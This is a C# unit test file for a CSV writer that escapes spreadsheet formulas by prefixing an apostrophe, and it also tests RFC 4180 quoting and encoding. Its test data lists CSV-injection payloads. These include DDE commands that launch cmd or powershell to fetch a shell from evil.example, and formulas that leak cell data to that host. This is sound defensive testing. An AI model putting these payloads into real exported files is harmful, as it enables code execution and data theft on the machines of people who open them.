using System.Text;
using Ribalta.Platform.Csv;
using Xunit;

namespace Ribalta.Tests.Unit;

[Trait("Suite", "Unit")]
public sealed class CsvWriterTests
{
    /// <summary>Text a spreadsheet would run: the common CSV-injection payloads (OWASP, PayloadsAllTheThings) and their disguises.</summary>
    public static TheoryData<string> Formulas =>
    [
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2,\"Error: please click\")",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
        "=WEBSERVICE(\"http://evil.example/\"&A1)",
        "=1+1",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "@",
        "+1+1",
        "+cmd|' /C notepad'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-12.50",
        "\t=1+1",
        "\r1+1",
        "   =1+1",
        "\u00A0=1+1",
        "＝1+1",
        "＋cmd|' /C calc'!A0",
        "－1",
        "＠SUM(A1)",
        "=\"quoted\", with a comma",
        "=تجربة(1)",
        "=ÜBERSETZEN(A1)",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task Text_that_a_spreadsheet_would_run_is_written_as_text(string payload)
    {
        var cells = Parse(await WriteAsync(csv => csv.Number(1).Text(payload).Text("after")));

        Assert.Equal(new[] { new[] { "1", "'" + payload, "after" } }, cells);
    }

    [Theory]
    [InlineData("Parcel lost", "Parcel lost")]
    [InlineData("perché? sì", "perché? sì")]
    [InlineData("الطرد ضاع", "الطرد ضاع")]
    [InlineData("a \"quoted\" word", "a \"quoted\" word")]
    [InlineData("50% off, twice", "50% off, twice")]
    [InlineData("first line\r\nsecond line", "first line\r\nsecond line")]
    [InlineData("a-b = c + d @ e", "a-b = c + d @ e")]
    [InlineData("'=already text", "'=already text")]
    [InlineData("", "")]
    [InlineData("   ", "   ")]
    [InlineData("ends in a semicolon;", "ends in a semicolon;")]
    [InlineData("ends in a space;  ", "ends in a space;  ")]
    [InlineData("\"quoted\" first", "\"quoted\" first")]
    [InlineData(",leading comma", ",leading comma")]
    [InlineData(";leading semicolon", ";leading semicolon")]
    public async Task Ordinary_text_comes_back_unchanged(string text, string expected) =>
        Assert.Equal(new[] { new[] { expected } }, Parse(await WriteAsync(csv => csv.Text(text))));

    [Theory]
    [InlineData("found it\n=1+1", "found it\n'=1+1")]
    [InlineData("found it\r\n@SUM(A1)", "found it\r\n'@SUM(A1)")]
    [InlineData("found it;=HYPERLINK(\"http://evil.example\")", "found it;'=HYPERLINK(\"http://evil.example\")")]
    [InlineData("found it; -1", "found it;' -1")]
    [InlineData("\r=1+1", "'\r'=1+1")]
    [InlineData("a;=b;=c", "a;'=b;'=c")]
    [InlineData("x\n+1\n-2\n@3", "x\n'+1\n'-2\n'@3")]
    public async Task A_formula_after_a_line_break_or_semicolon_is_text_too(string text, string expected) =>
        Assert.Equal(new[] { new[] { expected } }, Parse(await WriteAsync(csv => csv.Text(text))));

    [Fact]
    public async Task Numbers_and_times_stay_what_they_are()
    {
        var at = new DateTimeOffset(2026, 12, 7, 5, 30, 0, TimeSpan.Zero);
        var id = Guid.Parse("0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b");

        var written = await WriteAsync(csv => csv.Number(-12.50m).Number(-7).Number((decimal?)null).Time(at).Id(id).Text("-12.50"));

        Assert.Equal("-12.50,-7,,2026-12-07T05:30:00.0000000+00:00,0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b,'-12.50\r\n", written);
    }

    [Fact]
    public async Task Fields_are_quoted_as_RFC_4180_says_and_rows_end_in_CRLF()
    {
        var written = await WriteAsync(csv => csv.Text("plain").Text("a,b").Text("say \"hi\"").Text("two\nlines").Text("x;y").Text(null));

        Assert.Equal("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"x;y\",\r\n", written);
    }

    [Fact]
    public async Task A_download_starts_with_the_UTF8_byte_order_mark()
    {
        using var body = new MemoryStream();
        await using (var text = CsvWriter.Utf8(body))
        {
            await new CsvWriter(text).HeaderAsync(["Motivo"], default);
        }

        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF, (byte)'M' }, body.ToArray()[..4]);
    }

    [Fact]
    public async Task Each_row_is_written_once_and_starts_without_a_separator()
    {
        var text = new StringWriter();
        var csv = new CsvWriter(text);
        await csv.HeaderAsync(["Case", "Subject"], default);
        await csv.Number(1).Text("Parcel lost").EndRowAsync(default);
        await csv.Number(2).Text("Refund").EndRowAsync(default);

        Assert.Equal("Case,Subject\r\n1,Parcel lost\r\n2,Refund\r\n", text.ToString());
    }

    [Fact]
    public async Task The_download_body_stays_open_for_the_response_after_the_writer_is_done()
    {
        using var body = new MemoryStream();
        await using (var text = CsvWriter.Utf8(body))
        {
            await new CsvWriter(text).HeaderAsync(["Motivo"], default);
        }

        Assert.True(body.CanWrite);
        Assert.Equal(3 + "Motivo\r\n".Length, body.Length);
    }

    private static async Task<string> WriteAsync(Action<CsvWriter> row)
    {
        var text = new StringWriter();
        var csv = new CsvWriter(text);
        row(csv);
        await csv.EndRowAsync(default);
        return text.ToString();
    }

    /// <summary>A strict RFC 4180 reader: what a spreadsheet set to commas sees.</summary>
    internal static string[][] Parse(string csv)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var i = 0;
        while (i < csv.Length)
        {
            if (csv[i] == '"' && cell.Length == 0)
            {
                i++;
                while (!(csv[i] == '"' && (i + 1 == csv.Length || csv[i + 1] != '"')))
                {
                    cell.Append(csv[i]);
                    i += csv[i] == '"' ? 2 : 1;
                }

                i++;
                Assert.True(i == csv.Length || csv[i] is ',' or '\r', "a quoted field must end at a separator");
                continue;
            }

            if (csv[i] == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
                i++;
            }
            else if (csv[i] == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add([.. row]);
                row = [];
                i += 2;
            }
            else
            {
                Assert.False(csv[i] is '"' or '\r' or '\n', $"unquoted {csv[i]} at {i}");
                cell.Append(csv[i++]);
            }
        }

        Assert.True(row.Count == 0 && cell.Length == 0, "the last row must end in CRLF");
        return [.. rows];
    }
}
